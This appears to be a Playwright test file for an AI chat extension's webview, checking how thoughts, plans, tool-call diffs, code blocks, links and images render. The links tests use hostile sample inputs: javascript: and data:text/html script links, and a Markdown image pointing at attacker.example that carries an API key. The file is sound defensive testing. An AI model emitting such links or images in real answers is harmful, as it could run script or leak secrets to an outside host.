// @ts-check
// Issue 6 in the view: thoughts (collapsed), plans, tool call diffs and locations, code block Copy / Insert, links
// through the host. Each host action is checked as the request the fake host recorded. Screenshots in light and dark.
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { describe, it } from "node:test";
import { frames, message, openResult, openView, withBrowser } from "./harness.mjs";

const outDir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../test-results");
const CH = "ch-general";

const THOUGHT = "The test builds the expected date with `new Date(2025, 0, 15)`, which is **local** time; CI runs in UTC.";
/** @type {import("../../src/shared/protocol").PlanPart} */
const PLAN = {
  type: "plan",
  entries: [
    { content: "Read the failing test", priority: "high", status: "completed" },
    { content: "Pin TZ=UTC in test/setup.ts", priority: "medium", status: "in_progress" },
    { content: "Run the suite again", priority: "low", status: "pending" },
  ],
};
const OLD_SETUP = "import { beforeAll } from \"vitest\";\n\nbeforeAll(() => {\n  globalThis.fetch = fakeFetch;\n});\n";
const NEW_SETUP = "import { beforeAll } from \"vitest\";\n\nprocess.env.TZ = \"UTC\";\n\nbeforeAll(() => {\n  globalThis.fetch = fakeFetch;\n});\n";
/** @type {import("../../src/shared/protocol").ToolCallPart} */
const EDIT = {
  type: "toolCall",
  toolCallId: "t1",
  kind: "edit",
  title: "Edit test/setup.ts",
  status: "completed",
  diffs: [
    { path: "/home/me/project/test/setup.ts", oldText: OLD_SETUP, newText: NEW_SETUP },
    { path: "/home/me/project/test/tz.ts", oldText: null, newText: "export const TZ = \"UTC\";\n" },
  ],
  locations: [{ path: "/home/me/project/test/setup.ts", line: 3 }, { path: "/home/me/project/test/tz.ts" }],
};
const ANSWER = "Pinned the zone. To check:\n\n```sh\nTZ=UTC npm test\n```\n\nSee [the setup](test/setup.ts#L3) and [Vitest's docs](https://vitest.dev/config/).";

/** @param {string} id */
const body = (id) => `.message[data-message-id='${id}'] .message-body`;

/** @param {import("./harness.mjs").HostDriver} host @param {string} id */
async function streamingMessage(host, id) {
  await host.emit("message/started", message({ id, status: "streaming" }));
  return (/** @type {Omit<import("../../src/shared/protocol").HostEvents["message/delta"], "channelId" | "messageId">} */ d) => host.emit("message/delta", { channelId: CH, messageId: id, ...d });
}

describe("thoughts", () => {
  const env = withBrowser();

  it("stream into one collapsed thought that says Thinking…, then its length; click and keyboard expand it", async () => {
    const view = await openView(env.browser, env.server.origin);
    const { page, host } = view;
    const delta = await streamingMessage(host, "a1");
    let so = "";
    for (const piece of ["The test ", "builds the date ", "in local time."]) {
      so += piece;
      await delta({ part: { type: "thought", text: so }, appendText: "" });
    }
    const thought = `${body("a1")} .thought`;
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.includes("local time"), thought);
    assert.equal(await page.$$eval(thought, (els) => els.length), 1, "streamed thought chunks are one thought");
    assert.equal((await page.innerText(`${thought} .thought-label`)).trim(), "Thinking…");
    assert.equal(await page.getAttribute(`${thought} .thought-toggle`, "aria-expanded"), "false");
    assert.equal(await page.$$eval(`${thought} .thought-body`, (els) => els.length), 0, "collapsed by default");
    // Text after the thought ends it: it is no longer "Thinking…".
    await delta({ appendText: "The fix:" });
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.startsWith("Thought"), `${thought} .thought-label`);
    await host.emit("message/finished", message({ id: "a1", parts: [{ type: "thought", text: THOUGHT }, { type: "text", text: "The fix:" }] }));
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === "Thought · 19 words", `${thought} .thought-label`);

    await page.click(`${thought} .thought-toggle`);
    await page.waitForSelector(`${thought} .thought-body`);
    assert.equal(await page.getAttribute(`${thought} .thought-toggle`, "aria-expanded"), "true");
    assert.match(await page.innerText(`${thought} .thought-body`), /local time; CI runs in UTC/);
    assert.equal(await page.$eval(`${thought} .thought-body strong`, (el) => el.textContent), "local", "the thought is Markdown");
    await page.keyboard.press("Enter");
    await page.waitForSelector(`${thought} .thought-body`, { state: "detached" });
    await page.focus(`${thought} .thought-toggle`);
    await page.keyboard.press("Space");
    await page.waitForSelector(`${thought} .thought-body`);
    assert.deepEqual(await view.problems(), []);
  });

  it("a thought and a plan in the same frame both arrive; a later thought is a new part", async () => {
    const view = await openView(env.browser, env.server.origin);
    const { page, host } = view;
    const delta = await streamingMessage(host, "a2");
    await Promise.all([
      delta({ part: { type: "thought", text: "first" }, appendText: "" }),
      delta({ part: PLAN, appendText: "" }),
      delta({ part: { type: "thought", text: "second" }, appendText: "" }),
      delta({ part: { type: "thought", text: "second, longer" }, appendText: "" }),
    ]);
    await page.waitForSelector(`${body("a2")} .plan`);
    await frames(page, 2);
    const order = await page.$$eval(`${body("a2")} > *`, (els) => els.map((el) => el.className.split(" ")[0]));
    assert.deepEqual(order.filter((c) => c !== "typing"), ["thought", "plan", "thought"]);
    assert.match(await page.innerText(`${body("a2")} .thought:last-of-type .thought-preview`), /second, longer/);
    assert.deepEqual(await view.problems(), []);
  });
});

describe("plans", () => {
  const env = withBrowser();

  it("list entries with status icons and priority; each update replaces the plan in place", async () => {
    const view = await openView(env.browser, env.server.origin);
    const { page, host } = view;
    const delta = await streamingMessage(host, "p1");
    await delta({ part: { type: "plan", entries: PLAN.entries.map((e) => ({ ...e, status: "pending" })) }, appendText: "" });
    await delta({ appendText: "Working on it." });
    await page.waitForSelector(`${body("p1")} .plan`);
    await delta({ part: PLAN, appendText: "" });
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === "1/3 done", `${body("p1")} .plan-progress`);
    assert.equal(await page.$$eval(`${body("p1")} .plan`, (els) => els.length), 1, "one plan per message");
    const entries = await page.$$eval(`${body("p1")} .plan-entry`, (els) =>
      els.map((el) => ({
        status: el.getAttribute("data-status"),
        icon: el.querySelector(".plan-status")?.getAttribute("aria-label"),
        text: el.querySelector(".plan-content")?.textContent,
        priority: el.querySelector(".plan-priority")?.textContent,
      })),
    );
    assert.deepEqual(entries, [
      { status: "completed", icon: "Done", text: "Read the failing test", priority: "high" },
      { status: "in_progress", icon: "In progress", text: "Pin TZ=UTC in test/setup.ts", priority: "medium" },
      { status: "pending", icon: "To do", text: "Run the suite again", priority: "low" },
    ]);
    assert.equal(await page.getAttribute(`${body("p1")} .plan`, "aria-label"), "Plan: 1 of 3 done");
    const order = await page.$$eval(`${body("p1")} > *`, (els) => els.map((el) => el.className.split(" ")[0]));
    assert.deepEqual(order.slice(0, 2), ["plan", "markdown"], "the plan stays where it first appeared");
    assert.deepEqual(await view.problems(), []);
  });

  it("field case 24: an empty plan clears the card while streaming, and a stored empty plan shows no card", async () => {
    const stored = message({ id: "p0", parts: [{ type: "plan", entries: [] }, { type: "text", text: "No plan after all." }] });
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [stored] }) });
    const { page, host } = view;
    await page.waitForSelector(`${body("p0")} .markdown`);
    assert.equal(await page.$$eval(`${body("p0")} .plan`, (els) => els.length), 0, "no card for a stored empty plan");
    assert.doesNotMatch(await page.innerText(body("p0")), /Plan|0\/0|No entries/);
    const delta = await streamingMessage(host, "p2");
    await delta({ part: PLAN, appendText: "" });
    await delta({ appendText: "Working on it." });
    await page.waitForSelector(`${body("p2")} .plan`);
    await delta({ part: { type: "plan", entries: [] }, appendText: "" });
    await page.waitForSelector(`${body("p2")} .plan`, { state: "detached" });
    assert.match(await page.innerText(body("p2")), /Working on it\./);
    await delta({ part: { type: "plan", entries: [PLAN.entries[0]] }, appendText: "" });
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent === "1/1 done", `${body("p2")} .plan-progress`);
    assert.equal(await page.$$eval(`${body("p2")} .plan`, (els) => els.length), 1, "one card, the latest");
    assert.deepEqual(await view.problems(), []);
  });
});

describe("tool call diffs and locations", () => {
  const env = withBrowser();

  it("show each diff as file, +added −removed and Open diff, which asks the host with both texts", async () => {
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "d1", parts: [EDIT] })] }) });
    const { page, host } = view;
    const card = `${body("d1")} .tool-call`;
    await page.waitForSelector(`${card} .tool-diff`);
    const diffs = await page.$$eval(`${card} .tool-diff`, (els) =>
      els.map((el) => ({
        file: el.querySelector(".diff-file")?.textContent,
        stat: el.querySelector(".diff-stat")?.textContent,
        label: el.querySelector(".diff-stat")?.getAttribute("aria-label"),
        isNew: !!el.querySelector(".diff-new"),
        button: el.querySelector(".diff-open")?.getAttribute("aria-label"),
      })),
    );
    assert.deepEqual(diffs, [
      { file: "…/test/setup.ts", stat: "+2 −0", label: "2 lines added, 0 removed", isNew: false, button: "Open diff of /home/me/project/test/setup.ts" },
      { file: "…/test/tz.ts", stat: "+1 −0", label: "1 line added, 0 removed", isNew: true, button: "Open diff of /home/me/project/test/tz.ts" },
    ]);
    await (await page.$$(`${card} .diff-open`))[0].click();
    // Keyboard: the second button is reachable with Tab and opens with Enter.
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    assert.deepEqual(await host.waitForRequests("editor/openDiff", 2), EDIT.diffs);
    assert.deepEqual(await view.problems(), []);
  });

  it("show locations as links that ask the host to open the file at the line", async () => {
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "d2", parts: [EDIT] })] }) });
    const { page, host } = view;
    const links = `${body("d2")} .tool-location`;
    await page.waitForSelector(links);
    assert.deepEqual(await page.$$eval(links, (els) => els.map((el) => el.textContent)), ["…/test/setup.ts:3", "…/test/tz.ts"]);
    for (const link of await page.$$(links)) await link.click();
    assert.deepEqual(await host.waitForRequests("editor/openLocation", 2), [{ path: "/home/me/project/test/setup.ts", line: 3 }, { path: "/home/me/project/test/tz.ts" }]);
    assert.deepEqual(await view.problems(), []);
  });

  it("field case 2: a streamed update that replaces the tool call keeps what it carries; locations and diffs follow", async () => {
    const view = await openView(env.browser, env.server.origin);
    const { page, host } = view;
    const delta = await streamingMessage(host, "d3");
    await delta({ part: { ...EDIT, status: "in_progress", diffs: undefined } });
    await page.waitForSelector(`${body("d3")} .tool-location`);
    assert.equal(await page.$$eval(`${body("d3")} .tool-diff`, (els) => els.length), 0);
    await delta({ part: { ...EDIT, status: "completed", locations: [{ path: "/home/me/project/test/setup.ts", line: 3 }] } });
    await page.waitForFunction((sel) => document.querySelectorAll(sel).length === 2, `${body("d3")} .tool-diff`);
    assert.equal(await page.$$eval(`${body("d3")} .tool-call`, (els) => els.length), 1, "the same card");
    assert.equal(await page.$$eval(`${body("d3")} .tool-location`, (els) => els.length), 1);
    assert.deepEqual(await view.problems(), []);
  });
});

describe("code blocks", () => {
  const env = withBrowser();

  /** @param {import("./harness.mjs").View} view */
  async function withClipboard(view) {
    await view.page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: env.server.origin });
    return () => view.page.evaluate(() => navigator.clipboard.readText());
  }

  it("field case 11: Copy yields exactly the code, for a block streamed in pieces and for one without a final newline", async () => {
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "c0", text: "SHA:\n\n```text\nabc123\n```" })] }) });
    const { page, host } = view;
    const clipboard = await withClipboard(view);
    await page.click(`${body("c0")} .code-action[data-code-action='copy']`);
    await page.waitForSelector(`${body("c0")} .code-action[data-feedback='Copied']`);
    assert.equal(await clipboard(), "abc123");

    const delta = await streamingMessage(host, "c1");
    for (const piece of ["Run:\n```bash\nkill $1\n", "echo \\(x\\)\n", "```\nDone."]) await delta({ appendText: piece });
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.includes("Done."), body("c1"));
    await page.click(`${body("c1")} .code-action[data-code-action='copy']`);
    await page.waitForSelector(`${body("c1")} .code-action[data-feedback='Copied']`);
    assert.equal(await clipboard(), "kill $1\necho \\(x\\)");
    assert.equal(await page.innerText(`${body("c1")} .code-language`), "bash");
    assert.equal(await page.$$eval(`${body("c1")} p`, (els) => els.at(-1)?.textContent), "Done.");
    assert.deepEqual(await view.problems(), []);
  });

  it("Insert asks the host to insert the code at the cursor; both buttons are keyboard reachable with labels", async () => {
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "c2", text: ANSWER })] }) });
    const { page, host } = view;
    const copy = `${body("c2")} .code-action[data-code-action='copy']`;
    const insert = `${body("c2")} .code-action[data-code-action='insert']`;
    await page.waitForSelector(insert);
    assert.equal(await page.getAttribute(copy, "aria-label"), "Copy sh code");
    assert.equal(await page.getAttribute(insert, "aria-label"), "Insert code at the cursor of the active editor");
    await page.focus(copy);
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute("data-code-action")), "insert");
    await page.keyboard.press("Enter");
    assert.deepEqual(await host.waitForRequests("editor/insert"), [{ text: "TZ=UTC npm test" }]);
    await page.waitForSelector(`${insert}[data-feedback='Inserted']`);
    // No editor open: the host says so, and so does the button.
    await page.evaluate(() => {
      window.__host.handlers["editor/insert"] = () => ({ inserted: false });
    });
    await page.waitForSelector(`${insert}:not([data-feedback])`, { timeout: 5_000 });
    await page.click(insert);
    await page.waitForSelector(`${insert}[data-feedback='No editor open']`);
    assert.deepEqual(await view.problems(), []);
  });
});

describe("links", () => {
  const env = withBrowser();

  it("open through the host (editor/openLink) and never navigate the view; refused schemes lose their href first", async () => {
    const text = [
      "[docs](https://vitest.dev/config/) [mail](mailto:me@example.com) [setup](test/setup.ts#L3) [abs](file:///home/me/project/a.ts)",
      "[js](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>) [cmd](command:workbench.action.terminal.new) [tel](tel:123)",
    ].join("\n\n");
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "l1", text })] }) });
    const { page, host } = view;
    await page.waitForSelector(`${body("l1")} a`);
    const url = page.url();
    const links = await page.$$(`${body("l1")} a`);
    assert.equal(links.length, 8);
    for (const link of links) await link.click();
    // The keyboard opens a link too.
    await page.focus(`${body("l1")} a[href^='https']`);
    await page.keyboard.press("Enter");
    await host.waitForRequests("editor/openLink", 5);
    await frames(page, 3);
    assert.deepEqual((await host.requests("editor/openLink")).map((p) => p.href), [
      "https://vitest.dev/config/",
      "mailto:me@example.com",
      "test/setup.ts#L3",
      "file:///home/me/project/a.ts",
      "https://vitest.dev/config/",
    ]);
    assert.equal(page.url(), url, "the view never navigates");
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.deepEqual(await page.$$eval(`${body("l1")} a`, (els) => els.slice(4).map((a) => a.getAttribute("href"))), [null, null, null, null]);
    assert.deepEqual(await view.problems(), []);
  });
  it("task list items show their checkbox where the bullet would be; table cells in a narrow view break between words, not inside them", async () => {
    const text = ["- [x] parse the **roster**", "- [ ] retry with `backoff`", "- plain item", "", "| left | centered | right aligned column |", "|:--|:-:|--:|", "| `src/a.ts` | *edited* | 12 |"].join("\n");
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "t1", text })] }), width: 300 });
    const { page } = view;
    await page.waitForSelector(`${body("t1")} table`);
    const items = await page.$$eval(`${body("t1")} li`, (els) => els.map((li) => getComputedStyle(li).listStyleType));
    assert.deepEqual(items, ["none", "none", "disc"], "no bullet beside a checkbox; a plain item keeps its bullet");
    const split = await page.$$eval(`${body("t1")} th, ${body("t1")} td`, (cells) =>
      cells.flatMap((cell) => {
        const text = cell.textContent ?? "";
        const node = cell.firstChild?.nodeType === Node.TEXT_NODE ? cell.firstChild : null;
        if (!node) return [];
        return [...text.matchAll(/\S+/g)].filter((m) => {
          const range = document.createRange();
          range.setStart(node, m.index ?? 0);
          range.setEnd(node, (m.index ?? 0) + m[0].length);
          return new Set([...range.getClientRects()].map((r) => Math.round(r.top))).size > 1;
        }).map((m) => m[0]);
      }),
    );
    assert.deepEqual(split, [], "no word is split across lines");
    assert.deepEqual(await view.problems(), []);
  });

  it("never fetches an answer's network image: it is a link to it, which opens through the host", async () => {
    const secret = "https://attacker.example/pixel.png?secret=API_KEY_123";
    const text = `Status: ![build badge](${secret}) ![](https://img.example/diagrams/flow%20chart.svg) ![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)`;
    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "i1", text })] }) });
    const { page, host } = view;
    /** @type {string[]} */
    const fetched = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(env.server.origin)) fetched.push(request.url());
    });
    await page.waitForSelector(`${body("i1")} a.md-remote-image`);
    await frames(page, 5);
    const shown = await page.$$eval(`${body("i1")} .md-remote-image`, (els) => els.map((a) => ({ text: a.textContent, href: a.getAttribute("href"), title: a.getAttribute("title"), icon: !!a.querySelector(".codicon-file-media") })));
    assert.deepEqual(shown, [
      { text: "build badge", href: secret, title: `Image not loaded: ${secret}`, icon: true },
      { text: "flow chart.svg", href: "https://img.example/diagrams/flow%20chart.svg", title: "Image not loaded: https://img.example/diagrams/flow%20chart.svg", icon: true },
    ]);
    assert.deepEqual(await page.$$eval(`${body("i1")} img`, (els) => els.map((img) => img.getAttribute("src")?.slice(0, 15))), ["data:image/gif;"], "an image in the text itself still shows");
    await page.click(`${body("i1")} a.md-remote-image`);
    await host.waitForRequests("editor/openLink", 1);
    assert.deepEqual((await host.requests("editor/openLink")).map((p) => p.href), [secret], "a click asks the host, which confirms before opening");
    assert.deepEqual(fetched, [], "nothing was requested from another origin");
    assert.deepEqual(await view.problems(), [], "and nothing was even tried (no CSP report)");
    await page.screenshot({ path: path.join(outDir, "webview-remote-image.png"), clip: { x: 0, y: 0, width: 320, height: 260 } });
  });
});

describe("screenshots of issue 6's parts", () => {
  const env = withBrowser();

  for (const theme of /** @type {const} */ (["dark", "light"])) {
    it(`a message with a thought, a plan and a tool call with a diff (${theme})`, async () => {
      const user = message({ id: "u1", author: "user", text: "@demo why does `npm test` fail on CI? Fix it.", to: ["demo"] });
      const answer = message({ id: "s1", parts: [{ type: "thought", text: THOUGHT }, PLAN, EDIT, { type: "text", text: ANSWER }], stopReason: "end_turn" });
      const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [user, answer] }), theme, width: 360, height: 760 });
      const { page, host } = view;
      await page.waitForSelector(`${body("s1")} .code-block`);
      // A second, streaming answer: its thought is still going.
      const delta = await streamingMessage(host, "s2");
      await delta({ part: { type: "thought", text: "Now the suite: 212 tests, the date ones first…" }, appendText: "" });
      await page.waitForSelector(`${body("s2")} .thought.live`);
      await page.evaluate(() => document.fonts.ready);
      await frames(page, 3);
      mkdirSync(outDir, { recursive: true });
      await page.screenshot({ path: path.join(outDir, `webview-parts-${theme}.png`) });
      // The same message with its thought open.
      await page.click(`${body("s1")} .thought-toggle`);
      await page.waitForSelector(`${body("s1")} .thought-body`);
      await page.$eval(body("s1"), (el) => el.scrollIntoView());
      await frames(page, 2);
      await page.screenshot({ path: path.join(outDir, `webview-parts-thought-open-${theme}.png`) });
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), true, "nothing wider than the sidebar");
      const history = await page.$eval(".history", (el) => ({ sw: el.scrollWidth, cw: el.clientWidth }));
      assert.ok(history.sw <= history.cw, `history does not scroll sideways: ${JSON.stringify(history)}`);
      assert.deepEqual(await view.problems(), []);
    });
  }
});
